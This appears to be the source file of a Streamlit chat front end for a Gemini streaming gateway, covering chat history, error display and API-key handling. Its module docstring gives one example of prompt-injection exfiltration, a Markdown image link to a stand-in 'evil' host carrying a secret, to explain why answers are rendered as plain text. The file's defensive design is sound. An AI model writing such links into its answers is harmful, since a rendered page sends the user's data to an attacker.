"""The Streamlit chat page: `gemini-sse ui`, or `streamlit run` on this file.

It reads answers with the package's own Python client (`Client.stream_text`), so it shows
what any Python program would get, each piece as it arrives.

Answers are shown as plain text, not Markdown (so not with `st.write_stream`, which
renders Markdown): a model can be talked into writing `![](https://evil/?q=secret)`, and
a rendered image would make the visitor's browser send that URL out.

Settings come from the sidebar; `GEMINI_SSE_URL` and `GEMINI_SSE_API_KEY` (the same
variables `gemini-sse ask` reads) give the defaults. The API key from the environment is
used on the server side only and never put into a widget: widget values are sent to every
browser that opens the page. It goes only to the gateway of `GEMINI_SSE_URL`: any visitor
can edit the URL field, and must not get the key by pointing it at their own server.

Streamlit runs this file as a script named `__main__` on every interaction; importing it
as a module only defines the functions below.
"""

from __future__ import annotations

import contextlib
import os
from collections.abc import Sequence
from typing import TypedDict

import streamlit as st

from gemini_sse.client import (
    DEFAULT_URL,
    Client,
    GatewayError,
    GeminiSSEError,
    IncompleteStreamError,
    StreamError,
)

MAX_TURNS = 6  # question-answer pairs sent along with the next question


class Turn(TypedDict):
    """One question and what came back; kept in `st.session_state["turns"]`."""

    question: str
    answer: str
    error: str | None


def conversation(turns: Sequence[Turn], question: str) -> list[dict[str, str]]:
    """The messages to send: the last answered turns, then the new question.

    Failed turns are left out: the model only ever sees whole question-answer pairs.
    """
    answered = [t for t in turns if t["error"] is None and t["answer"]][-MAX_TURNS:]
    messages: list[dict[str, str]] = []
    for turn in answered:
        messages.append({"role": "user", "content": turn["question"]})
        messages.append({"role": "assistant", "content": turn["answer"]})
    messages.append({"role": "user", "content": question})
    return messages


def describe(exc: GeminiSSEError) -> str:
    """An error as the page shows it: the gateway's code first, then its message."""
    if isinstance(exc, GatewayError):
        text = f"`{exc.code}` {exc.message}"
        if exc.retryable:
            later = f" in {exc.retry_after:.0f} s" if exc.retry_after else ""
            text += f" (you can try again{later})"
        return text
    if isinstance(exc, IncompleteStreamError):
        return f"`incomplete_stream` {exc}"
    return f"`{type(exc).__name__}` {exc}"


def answer(url: str, api_key: str | None, turn: Turn, messages: list[dict[str, str]]) -> None:
    """Stream one answer into the current chat message, filling in `turn` as it goes."""
    model = st.session_state.get("model") or None
    temperature = st.session_state.get("temperature")
    shown = st.empty()
    text = ""
    try:
        with (
            Client(url, api_key=api_key) as client,
            # Closed at once if Streamlit interrupts the run (a new question, Stop): the
            # connection drops and the gateway cancels the generation.
            contextlib.closing(
                client.stream_text(messages, model=model, temperature=temperature)
            ) as pieces,
        ):
            for piece in pieces:
                text += piece
                shown.text(text)
        turn["answer"] = text
    except GeminiSSEError as exc:
        if isinstance(exc, StreamError | IncompleteStreamError):
            turn["answer"] = exc.partial_text  # already on the page; kept for reruns
        turn["error"] = describe(exc)
        st.error(turn["error"])


def api_key_for(url: str, typed_key: str) -> str | None:
    """The key to send to `url`: the one typed in the page, else the environment's.

    The environment's key goes only to the configured gateway (`$GEMINI_SSE_URL`, or the
    default URL): the URL field is open to every visitor.
    """
    if typed_key.strip():
        return typed_key.strip()
    configured = os.environ.get("GEMINI_SSE_URL") or DEFAULT_URL
    if url.strip().rstrip("/") != configured.strip().rstrip("/"):
        return None
    return os.environ.get("GEMINI_SSE_API_KEY") or None


def sidebar() -> tuple[str, str | None]:
    """The settings widgets; returns the gateway URL and the API key to use."""
    with st.sidebar:
        st.header("Gateway")
        url = st.text_input(
            "Gateway URL", value=os.environ.get("GEMINI_SSE_URL") or DEFAULT_URL, key="url"
        )
        typed_key = st.text_input(
            "API key",
            type="password",
            key="api_key",
            help="Sent as `Authorization: Bearer …`. Empty: `$GEMINI_SSE_API_KEY` of the "
            "machine running this page, if set, but only to the gateway URL it was started "
            "with; else no key.",
        )
        st.text_input("Model", key="model", placeholder="the gateway's default")
        st.number_input(
            "Temperature",
            min_value=0.0,
            max_value=2.0,
            value=None,
            step=0.1,
            key="temperature",
            placeholder="the model's default",
        )
        if st.button("New chat"):
            st.session_state["turns"] = []
    url = url.strip() or DEFAULT_URL
    return url, api_key_for(url, typed_key)


def main() -> None:
    st.set_page_config(page_title="gemini-sse chat", page_icon="💬")
    st.title("gemini-sse chat")
    url, api_key = sidebar()
    turns: list[Turn] = st.session_state.setdefault("turns", [])

    for turn in turns:
        with st.chat_message("user"):
            st.markdown(turn["question"])
        with st.chat_message("assistant"):
            if turn["answer"]:
                st.text(turn["answer"])
            if turn["error"]:
                st.error(turn["error"])

    question = st.chat_input("Ask a question")
    if not isinstance(question, str) or not question.strip():
        return
    messages = conversation(turns, question)
    turn = Turn(question=question, answer="", error=None)
    turns.append(turn)
    with st.chat_message("user"):
        st.markdown(question)
    with st.chat_message("assistant"):
        answer(url, api_key, turn, messages)


if __name__ == "__main__":
    main()
